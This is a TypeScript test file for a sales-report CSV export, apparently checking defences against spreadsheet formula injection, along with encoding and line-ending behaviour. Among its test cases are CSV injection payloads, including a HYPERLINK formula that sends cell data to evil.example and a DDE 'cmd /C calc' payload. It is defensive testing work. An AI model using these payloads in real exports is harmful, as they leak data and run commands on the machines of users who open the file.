import { buffer } from 'node:stream/consumers'
import fc from 'fast-check'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { CsvFile } from '../../server/csv/csv-file.ts'
import { insertAgencies, insertSalesReports } from '../support/directory.ts'
import { readCsv, shareCsv } from '../support/shared-csv.ts'
import { startTestApi, type TestApi } from '../support/test-api.ts'

let test: TestApi
let path: string
let agencyId: number

beforeAll(async () => {
  test = await startTestApi({ environment: { RATE_LIMITS: 'export-address=100000/1m' } })
  const { headers } = await test.signIn()
  ;[agencyId = 0] = await insertAgencies(test.database.pool, [{ city: 'Knoxville', state: 'TN' }])
  path = await shareCsv(test, headers, { agency_id: String(agencyId) })
})

afterAll(() => test.close())

interface Cells {
  account_name: string | null
  dealer_name: string | null
  status: string | null
}

/** The CSV of an agency that has these sales reports and no others. */
async function csvOf(reports: Cells[]): Promise<Buffer> {
  await test.database.pool.query('delete from sales_reports')
  await insertSalesReports(
    test.database.pool,
    reports.map((report) => ({ agency_id: agencyId, ...report })),
  )
  const answer = await test.api.inject(path)
  expect(answer.statusCode).toBe(200)
  return answer.rawPayload
}

const headings = ['Account', 'City', 'State', 'Vendor', 'First purchase', 'Last purchase', 'Status']

const dangerous = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const awkward = [
  ...dangerous,
  '"',
  '""',
  ',',
  ';',
  "'",
  '\r\n',
  '\\',
  '\\.',
  ' ',
  'é',
  '漢',
  '👩‍🚒',
  '\u2028',
  '\uFEFF',
]
// PostgreSQL keeps every character but NUL.
const anyText = fc.string({ unit: 'binary' }).map((text) => text.replaceAll('\0', ''))
const text = fc.oneof(
  anyText,
  fc.string({ unit: fc.constantFrom(...awkward, 'a', '1') }),
  fc.tuple(fc.constantFrom(...dangerous), anyText).map((parts) => parts.join('')),
  fc.string({ unit: fc.constantFrom('+', '1', '0', ' ', '-', '(', ')') }),
)
const cell = fc.option(text, { freq: 10 })
const report = fc.record({ account_name: cell, dealer_name: cell, status: cell })

/** What a cell must hold when it is read back. */
function expected(value: string | null): string {
  const [first = ''] = value ?? ''
  if (value === null || !dangerous.includes(first)) return value ?? ''
  return /^\+\d[\d ().-]{5,24}$/.test(value) ? value : `'${value}`
}

it('whatever the cells hold, an independent reader finds it in its place, and no formula [REPORT-13, REPORT-14]', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(report, { maxLength: 20 }), async (reports) => {
      const [first, ...rows] = readCsv(await csvOf(reports))
      expect(first).toEqual(headings)
      expect(rows).toEqual(
        reports.map(({ account_name, dealer_name, status }) => [
          ...[expected(account_name), 'Knoxville', 'TN', expected(dealer_name), '', '', expected(status)],
        ]),
      )
    }),
    { numRuns: 150 },
  )
})

it.each([
  ['=HYPERLINK("http://evil.example?"&A1,"Click")', `'=HYPERLINK("http://evil.example?"&A1,"Click")`],
  ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ['＝1+1', "'＝1+1"],
  ['+', "'+"],
  ['+1 615 555 0100', '+1 615 555 0100'],
  ['+49 (30) 555-0100', '+49 (30) 555-0100'],
  ['+16155550100', '+16155550100'],
  ['+1 615 555 0100=A1', "'+1 615 555 0100=A1"],
  ['+1 615 555 0100\n=A1', "'+1 615 555 0100\n=A1"],
  ['Baker, Finch & Sons', 'Baker, Finch & Sons'],
  ["'quoted'", "'quoted'"],
  ['A=B', 'A=B'],
])('the cell %j is written as %j [REPORT-13]', async (value, written) => {
  const [, row] = readCsv(await csvOf([{ account_name: null, dealer_name: value, status: null }]))
  expect(row?.[3]).toBe(written)
})

it('is UTF-8 with a byte order mark, its rows end with CR LF, dates are years, months and days [REPORT-14]', async () => {
  await test.database.pool.query('delete from sales_reports')
  await insertSalesReports(test.database.pool, [
    {
      agency_id: agencyId,
      account_name: 'Cañon City',
      dealer_name: 'Baker, "Finch"',
      first_purchase_date: '2020-02-29',
      status: '',
    },
  ])
  const { rawPayload } = await test.api.inject(path)
  expect(rawPayload.toString()).toBe(
    '\uFEFFAccount,City,State,Vendor,First purchase,Last purchase,Status\r\n' +
      'Cañon City,Knoxville,TN,"Baker, ""Finch""",2020-02-29,,""\r\n',
  )
})

it('is the same however its bytes arrive [REPORT-14]', async () => {
  const csv = fc.string({ unit: fc.constantFrom('"', '\n', '\r', ',', 'a', 'é') })
  await fc.assert(
    fc.asyncProperty(csv, fc.array(fc.nat(40)), async (written, cuts) => {
      const bytes = Buffer.from(written)
      const whole = await throughFile([bytes])
      const places = [0, ...cuts.map((cut) => cut % (bytes.length + 1)).sort((a, b) => a - b), bytes.length]
      const parts = places.slice(1).map((end, index) => bytes.subarray(places[index], end))
      expect(await throughFile(parts)).toEqual(whole)
      const quoted = written
        .split('"')
        .map((part, index) => (index % 2 ? part : part.replaceAll('\n', '\r\n')))
      expect(whole.toString()).toBe(`\uFEFF${quoted.join('"')}`)
    }),
  )
})

function throughFile(parts: Buffer[]): Promise<Buffer> {
  const file = new CsvFile()
  for (const part of parts) file.write(part)
  file.end()
  return buffer(file)
}
